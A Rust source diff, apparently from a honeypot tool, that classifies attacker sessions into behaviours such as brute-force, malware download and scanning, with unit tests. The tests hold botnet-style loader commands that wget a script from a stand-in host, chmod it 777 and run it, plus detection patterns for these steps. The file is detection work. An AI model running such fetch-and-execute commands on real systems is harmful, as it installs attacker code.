@@ -1,0 +1,581 @@
+//! Session classification: events → matched primitives P → exactly one behavior.
+//!
+//! Exact-set semantics: behavior B takes a session when B's `when` holds on P and every
+//! primitive in P is named by B (in `when` or `optional`). Several candidates: the most specific
+//! wins (fewest named primitives), then the highest severity, then the smallest id.
+
+use crate::catalog::{Behavior, Catalog, Primitive};
+use crate::expr::Expr;
+use crate::extract;
+use crate::field::Field;
+use crate::matcher::{protocol_bit, CompileError, Matcher, PrimSet};
+use serde::{Deserialize, Serialize};
+use sikker_event::{Event, EventData, Protocol};
+use std::collections::HashMap;
+use std::fmt;
+use std::net::IpAddr;
+use uuid::Uuid;
+
+/// What a session was classified as.
+#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Outcome {
+    /// Exactly one behavior accounts for every primitive seen.
+    Behavior(String),
+    /// Primitives matched but no behavior accounts for exactly them: the editors' queue.
+    Unclassified,
+    /// No primitive matched at all.
+    Nothing,
+}
+
+impl Outcome {
+    pub fn behavior(&self) -> Option<&str> {
+        match self {
+            Outcome::Behavior(b) => Some(b),
+            _ => None,
+        }
+    }
+}
+
+impl fmt::Display for Outcome {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Outcome::Behavior(b) => f.write_str(b),
+            Outcome::Unclassified => f.write_str("unclassified"),
+            Outcome::Nothing => f.write_str("nothing"),
+        }
+    }
+}
+
+/// The result of classifying one session.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Classification {
+    /// Ids of the matched primitives, in catalog order.
+    pub primitives: Vec<String>,
+    pub outcome: Outcome,
+}
+
+/// One session's classification with what identifies it (for reclassification and tools).
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct SessionClassification {
+    pub session: Uuid,
+    pub src_ip: IpAddr,
+    pub protocol: Protocol,
+    pub events: usize,
+    #[serde(flatten)]
+    pub classification: Classification,
+}
+
+enum Cond {
+    Prim(u32),
+    Any(Vec<u32>),
+    All(Vec<Cond>),
+    Either(Vec<Cond>),
+}
+
+impl Cond {
+    fn holds(&self, p: &PrimSet) -> bool {
+        match self {
+            Cond::Prim(i) => p.contains(*i),
+            Cond::Any(xs) => xs.iter().any(|i| p.contains(*i)),
+            Cond::All(xs) => xs.iter().all(|x| x.holds(p)),
+            Cond::Either(xs) => xs.iter().any(|x| x.holds(p)),
+        }
+    }
+}
+
+struct CompiledBehavior {
+    named: PrimSet,
+    named_count: usize,
+    cond: Cond,
+}
+
+/// A compiled catalog, ready to classify sessions. Cheap to share across threads.
+pub struct Engine {
+    catalog: Catalog,
+    matcher: Matcher,
+    behaviors: Vec<CompiledBehavior>,
+    /// For each primitive, the behaviors that name it.
+    by_primitive: Vec<Vec<u32>>,
+    prim_index: HashMap<String, u32>,
+}
+
+impl Engine {
+    pub fn new(catalog: Catalog) -> Result<Engine, CompileError> {
+        let matcher = Matcher::new(&catalog)?;
+        let prim_index: HashMap<String, u32> = catalog
+            .primitives
+            .iter()
+            .enumerate()
+            .map(|(i, p)| (p.id.clone(), i as u32))
+            .collect();
+        let groups: HashMap<&str, Vec<u32>> = catalog
+            .groups
+            .iter()
+            .map(|g| {
+                let members = g
+                    .members
+                    .iter()
+                    .filter_map(|m| prim_index.get(m).copied())
+                    .collect();
+                (g.id.as_str(), members)
+            })
+            .collect();
+        let n = catalog.primitives.len();
+        let mut by_primitive = vec![Vec::new(); n];
+        let mut behaviors = Vec::with_capacity(catalog.behaviors.len());
+        for (bi, b) in catalog.behaviors.iter().enumerate() {
+            let mut named = PrimSet::new(n);
+            for id in &b.primitives {
+                if let Some(&i) = prim_index.get(id) {
+                    named.insert(i);
+                    by_primitive[i as usize].push(bi as u32);
+                }
+            }
+            behaviors.push(CompiledBehavior {
+                named_count: named.len(),
+                named,
+                cond: compile_expr(&b.when, &prim_index, &groups),
+            });
+        }
+        Ok(Engine {
+            catalog,
+            matcher,
+            behaviors,
+            by_primitive,
+            prim_index,
+        })
+    }
+
+    /// The default catalog, compiled.
+    pub fn builtin() -> Engine {
+        match Engine::new(Catalog::builtin()) {
+            Ok(e) => e,
+            Err(e) => panic!("the builtin catalog does not compile: {e}"),
+        }
+    }
+
+    pub fn catalog(&self) -> &Catalog {
+        &self.catalog
+    }
+
+    pub fn behavior(&self, id: &str) -> Option<&Behavior> {
+        self.catalog.behavior(id)
+    }
+
+    pub fn primitive(&self, id: &str) -> Option<&Primitive> {
+        self.prim_index
+            .get(id)
+            .map(|&i| &self.catalog.primitives[i as usize])
+    }
+
+    /// Classifies one closed session from all its events (any order). Events of other
+    /// sessions must not be mixed in: see [`Engine::classify_events`] for that.
+    pub fn classify(&self, events: &[Event]) -> Classification {
+        let set = self.match_events(events.iter());
+        self.resolve_set(&set)
+    }
+
+    /// The matched primitive set of a session, compiled matcher.
+    fn match_events<'a>(&self, events: impl Iterator<Item = &'a Event>) -> PrimSet {
+        let mut set = PrimSet::new(self.matcher.len());
+        let mut facts = SessionFacts::default();
+        for e in events {
+            facts.see(e);
+            let bit = protocol_bit(e.protocol);
+            extract::visit(e, &mut |f, v| self.matcher.match_value(f, v, bit, &mut set));
+        }
+        if let (Some(fact), Some(p)) = (facts.fact(), facts.protocol) {
+            self.matcher
+                .match_value(Field::Session, fact, protocol_bit(p), &mut set);
+        }
+        set
+    }
+
+    /// Reference classification: every primitive tested on its own against every extracted
+    /// value. Same result as [`Engine::classify`], much slower; the benchmark's baseline.
+    pub fn classify_naive(&self, events: &[Event]) -> Classification {
+        let mut values: Vec<(Field, String, u32)> = Vec::new();
+        let mut facts = SessionFacts::default();
+        for e in events {
+            facts.see(e);
+            let bit = protocol_bit(e.protocol);
+            extract::visit(e, &mut |f, v| values.push((f, v.to_owned(), bit)));
+        }
+        if let (Some(fact), Some(p)) = (facts.fact(), facts.protocol) {
+            values.push((Field::Session, fact.to_owned(), protocol_bit(p)));
+        }
+        let mut set = PrimSet::new(self.matcher.len());
+        for prim in 0..self.matcher.len() as u32 {
+            if values
+                .iter()
+                .any(|(f, v, bit)| self.matcher.naive_match(prim, *f, v, *bit))
+            {
+                set.insert(prim);
+            }
+        }
+        self.resolve_set(&set)
+    }
+
+    /// Classifies a set of primitive ids (as stored), e.g. to re-resolve stored sets against
+    /// a new catalog without the raw events. Unknown ids make the set unclassifiable.
+    pub fn resolve<S: AsRef<str>>(&self, primitive_ids: &[S]) -> Outcome {
+        let mut set = PrimSet::new(self.matcher.len());
+        for id in primitive_ids {
+            match self.prim_index.get(id.as_ref()) {
+                Some(&i) => set.insert(i),
+                None => return Outcome::Unclassified,
+            }
+        }
+        self.resolve_set(&set).outcome
+    }
+
+    fn resolve_set(&self, set: &PrimSet) -> Classification {
+        let primitives: Vec<String> = set
+            .iter()
+            .map(|i| self.catalog.primitives[i as usize].id.clone())
+            .collect();
+        let Some(rarest) = set.iter().min_by_key(|&i| self.by_primitive[i as usize].len()) else {
+            return Classification {
+                primitives,
+                outcome: Outcome::Nothing,
+            };
+        };
+        let mut best: Option<usize> = None;
+        for &bi in &self.by_primitive[rarest as usize] {
+            let bi = bi as usize;
+            let b = &self.behaviors[bi];
+            if !set.is_subset(&b.named) || !b.cond.holds(set) {
+                continue;
+            }
+            best = Some(match best {
+                None => bi,
+                Some(cur) if self.better(bi, cur) => bi,
+                Some(cur) => cur,
+            });
+        }
+        Classification {
+            primitives,
+            outcome: match best {
+                Some(bi) => Outcome::Behavior(self.catalog.behaviors[bi].id.clone()),
+                None => Outcome::Unclassified,
+            },
+        }
+    }
+
+    /// Tie-break: fewer named primitives, then higher severity, then smaller id.
+    fn better(&self, a: usize, b: usize) -> bool {
+        let (ca, cb) = (&self.behaviors[a], &self.behaviors[b]);
+        let (ba, bb) = (&self.catalog.behaviors[a], &self.catalog.behaviors[b]);
+        (ca.named_count, std::cmp::Reverse(ba.severity), &ba.id)
+            < (cb.named_count, std::cmp::Reverse(bb.severity), &bb.id)
+    }
+
+    /// Groups events by session (in order of first appearance) and classifies each: the
+    /// reclassification entry point (`sikker catalog apply`, `sikker catalog test`).
+    pub fn classify_events(&self, events: &[Event]) -> Vec<SessionClassification> {
+        let mut order: Vec<Uuid> = Vec::new();
+        let mut by_session: HashMap<Uuid, Vec<&Event>> = HashMap::new();
+        for e in events {
+            by_session
+                .entry(e.session)
+                .or_insert_with(|| {
+                    order.push(e.session);
+                    Vec::new()
+                })
+                .push(e);
+        }
+        order
+            .into_iter()
+            .filter_map(|s| {
+                let evs = by_session.remove(&s)?;
+                let first = evs.first()?;
+                let set = self.match_events(evs.iter().copied());
+                Some(SessionClassification {
+                    session: s,
+                    src_ip: first.canonical_src_ip(),
+                    protocol: first.protocol,
+                    events: evs.len(),
+                    classification: self.resolve_set(&set),
+                })
+            })
+            .collect()
+    }
+}
+
+#[derive(Default)]
+struct SessionFacts {
+    protocol: Option<Protocol>,
+    auth: bool,
+    active: bool,
+}
+
+impl SessionFacts {
+    fn see(&mut self, e: &Event) {
+        self.protocol.get_or_insert(e.protocol);
+        match e.data {
+            EventData::Auth(_) => self.auth = true,
+            EventData::Input { .. }
+            | EventData::Command { .. }
+            | EventData::Request(_)
+            | EventData::Upload(_)
+            | EventData::Download(_) => self.active = true,
+            _ => {}
+        }
+    }
+
+    fn fact(&self) -> Option<&'static str> {
+        match (self.auth, self.active) {
+            (_, true) => None,
+            (true, false) => Some("auth-only"),
+            (false, false) => Some("connect-only"),
+        }
+    }
+}
+
+fn compile_expr(e: &Expr, prims: &HashMap<String, u32>, groups: &HashMap<&str, Vec<u32>>) -> Cond {
+    match e {
+        Expr::Ref(id) => match (prims.get(id), groups.get(id.as_str())) {
+            (Some(&i), _) => Cond::Prim(i),
+            (None, Some(members)) => Cond::Any(members.clone()),
+            // Validation rejects unknown ids; an empty Any never holds.
+            (None, None) => Cond::Any(Vec::new()),
+        },
+        Expr::And(xs) => Cond::All(xs.iter().map(|x| compile_expr(x, prims, groups)).collect()),
+        Expr::Or(xs) => Cond::Either(xs.iter().map(|x| compile_expr(x, prims, groups)).collect()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use sikker_event::{Auth, AuthMethod, Request};
+
+    const TECH: &str = r#"
+[[technique]]
+id = "T1110.001"
+name = "Password Guessing"
+[[technique]]
+id = "T1105"
+name = "Ingress Tool Transfer"
+"#;
+
+    const CAT: &str = r#"
+primitive = [
+  { id = "login", protocols = ["ssh", "telnet"], field = "auth_method", op = "EQUALS", value = "password" },
+  { id = "wget", protocols = ["ssh", "telnet"], field = "command", op = "WILDCARD", value = "wget *" },
+  { id = "chmod", protocols = ["ssh", "telnet"], field = "command", op = "CONTAINS", value = "chmod 777" },
+  { id = "run-sh", protocols = ["ssh", "telnet"], field = "command", op = "REGEX", value = '^(ba)?sh [a-z.]+$' },
+  { id = "uname", protocols = ["ssh", "telnet"], field = "command", op = "EQUALS", value = "uname -a" },
+  { id = "upper-secret", protocols = ["ssh"], field = "command", op = "CONTAINS", value = "SECRET", case_sensitive = true },
+  { id = "scan", protocols = ["any"], field = "session", op = "EQUALS", value = "connect-only" },
+  { id = "ua-zgrab", protocols = ["http"], field = "user_agent", op = "CONTAINS", value = "zgrab" },
+]
+
+[[group]]
+id = "recon"
+members = ["uname"]
+
+[[behavior]]
+id = "guessing"
+name = "brute-force"
+description = "x"
+severity = "high"
+techniques = ["T1110.001"]
+kill_chain = ["credential-access"]
+when = "login"
+
+[[behavior]]
+id = "loader"
+name = "malware-download"
+description = "x"
+severity = "very_high"
+techniques = ["T1105"]
+kill_chain = ["command-and-control"]
+when = "login AND wget AND (chmod OR run-sh)"
+optional = ["recon"]
+
+[[behavior]]
+id = "loader-broad"
+name = "malware-download"
+description = "x"
+severity = "very_high"
+techniques = ["T1105"]
+kill_chain = ["command-and-control"]
+when = "login AND wget AND (chmod OR run-sh)"
+optional = ["recon", "upper-secret"]
+
+[[behavior]]
+id = "a-tie"
+name = "tie"
+description = "x"
+severity = "low"
+techniques = ["T1105"]
+kill_chain = ["discovery"]
+when = "login AND uname"
+
+[[behavior]]
+id = "b-tie"
+name = "tie"
+description = "x"
+severity = "medium"
+techniques = ["T1105"]
+kill_chain = ["discovery"]
+when = "uname AND (login OR uname)"
+
+[[behavior]]
+id = "port-scan"
+name = "port-scanning"
+description = "x"
+severity = "low"
+techniques = ["T1105"]
+kill_chain = ["discovery"]
+when = "scan"
+
+[[behavior]]
+id = "zgrab"
+name = "scanner"
+description = "x"
+severity = "info"
+techniques = ["T1105"]
+kill_chain = ["reconnaissance"]
+when = "ua-zgrab"
+"#;
+
+    fn engine() -> Engine {
+        let files = vec![
+            ("attack.toml".to_string(), TECH.to_string()),
+            ("t.toml".to_string(), CAT.to_string()),
+        ];
+        let c = Catalog::parse(&files).unwrap_or_else(|d| {
+            panic!("{}", d.iter().map(|x| x.to_string()).collect::<Vec<_>>().join("\n"))
+        });
+        Engine::new(c).unwrap()
+    }
+
+    fn ev(protocol: Protocol, data: EventData) -> Event {
+        Event::new(
+            "t",
+            Uuid::from_u128(7),
+            protocol,
+            "203.0.113.1".parse().unwrap(),
+            1,
+            22,
+            data,
+        )
+    }
+
+    fn login() -> Event {
+        ev(
+            Protocol::Ssh,
+            EventData::Auth(Auth {
+                method: AuthMethod::Password,
+                username: "root".into(),
+                password: Some("root".into()),
+                key_type: None,
+                key_fingerprint: None,
+                success: true,
+            }),
+        )
+    }
+
+    fn cmd(line: &str) -> Event {
+        ev(Protocol::Ssh, EventData::Command { line: line.into() })
+    }
+
+    fn both(e: &Engine, events: &[Event]) -> Classification {
+        let c = e.classify(events);
+        assert_eq!(c, e.classify_naive(events), "compiled and naive disagree");
+        c
+    }
+
+    #[test]
+    fn each_operator_matches() {
+        let e = engine();
+        let c = both(&e, &[login(), cmd("WGET http://x/y; chmod 777 y; bash y.sh; uname -a")]);
+        assert_eq!(c.primitives, ["login", "wget", "chmod", "run-sh", "uname"]);
+        // EQUALS is whole-value; CONTAINS case-sensitive respects case.
+        let c = both(&e, &[cmd("uname -a -r; echo secret")]);
+        assert!(c.primitives.is_empty(), "{c:?}");
+        let c = both(&e, &[cmd("echo SECRET")]);
+        assert_eq!(c.primitives, ["upper-secret"]);
+        // Protocol filter: Upper is ssh-only.
+        let mut t = cmd("echo SECRET");
+        t.protocol = Protocol::Telnet;
+        assert!(both(&e, &[t]).primitives.is_empty());
+    }
+
+    #[test]
+    fn exact_set_semantics() {
+        let e = engine();
+        let full = [login(), cmd("cd /tmp; wget http://x/bins.sh; chmod 777 bins.sh; sh bins.sh")];
+        assert_eq!(both(&e, &full).outcome, Outcome::Behavior("loader".into()));
+        // Optional recon does not change the class.
+        let with_recon = [login(), cmd("uname -a; wget http://x/b; chmod 777 b")];
+        assert_eq!(both(&e, &with_recon).outcome, Outcome::Behavior("loader".into()));
+        // One missing required primitive: no match for loader.
+        let missing = [cmd("wget http://x/b; chmod 777 b")];
+        assert_eq!(both(&e, &missing).outcome, Outcome::Unclassified);
+        // One extra primitive that no behavior names alongside these: unclassified, except the
+        // broader behavior that does name it.
+        let extra = [login(), cmd("wget http://x/b; chmod 777 b; echo SECRET")];
+        assert_eq!(both(&e, &extra).outcome, Outcome::Behavior("loader-broad".into()));
+        let extra = [
+            login(),
+            cmd("wget http://x/b; chmod 777 b"),
+            ev(Protocol::Ssh, EventData::Command { line: "x".into() }),
+        ];
+        assert_eq!(both(&e, &extra).outcome, Outcome::Behavior("loader".into()));
+        let stray = [login(), cmd("echo SECRET")];
+        assert_eq!(both(&e, &stray).outcome, Outcome::Unclassified);
+    }
+
+    #[test]
+    fn tie_breaks() {
+        let e = engine();
+        // Both loader and loader-broad accept; loader names fewer primitives.
+        let s = [login(), cmd("wget http://x/b; chmod 777 b")];
+        assert_eq!(both(&e, &s).outcome.behavior(), Some("loader"));
+        // a-tie and b-tie name the same two primitives: higher severity wins.
+        let s = [login(), cmd("uname -a")];
+        assert_eq!(both(&e, &s).outcome.behavior(), Some("b-tie"));
+    }
+
+    #[test]
+    fn unclassified_nothing_and_scan() {
+        let e = engine();
+        assert_eq!(both(&e, &[cmd("ls")]).outcome, Outcome::Nothing);
+        assert_eq!(both(&e, &[]).outcome, Outcome::Nothing);
+        let scan = [ev(Protocol::Redis, EventData::Connect)];
+        assert_eq!(both(&e, &scan).outcome.behavior(), Some("port-scan"));
+        assert_eq!(both(&e, &[login()]).outcome.behavior(), Some("guessing"));
+        let http = ev(
+            Protocol::Http,
+            EventData::Request(Request {
+                method: Some("GET".into()),
+                target: Some("/".into()),
+                headers: vec![("User-Agent".into(), "Mozilla/5.0 zgrab/0.x".into())],
+                ..Default::default()
+            }),
+        );
+        assert_eq!(both(&e, &[http]).outcome.behavior(), Some("zgrab"));
+    }
+
+    #[test]
+    fn resolve_and_group_sessions() {
+        let e = engine();
+        assert_eq!(e.resolve(&["login"]), Outcome::Behavior("guessing".into()));
+        assert_eq!(e.resolve(&["login", "nope"]), Outcome::Unclassified);
+        assert_eq!(e.resolve::<&str>(&[]), Outcome::Nothing);
+        let mut other = login();
+        other.session = Uuid::from_u128(8);
+        let out = e.classify_events(&[login(), other, cmd("uname -a")]);
+        assert_eq!(out.len(), 2);
+        assert_eq!(out[0].session, Uuid::from_u128(7));
+        assert_eq!(out[0].events, 2);
+        assert_eq!(out[0].classification.outcome.behavior(), Some("b-tie"));
+        assert_eq!(out[1].classification.outcome.behavior(), Some("guessing"));
+        let b = e.behavior("loader").unwrap();
+        assert_eq!(b.techniques[0].url, "https://attack.mitre.org/techniques/T1105/");
+    }
+}
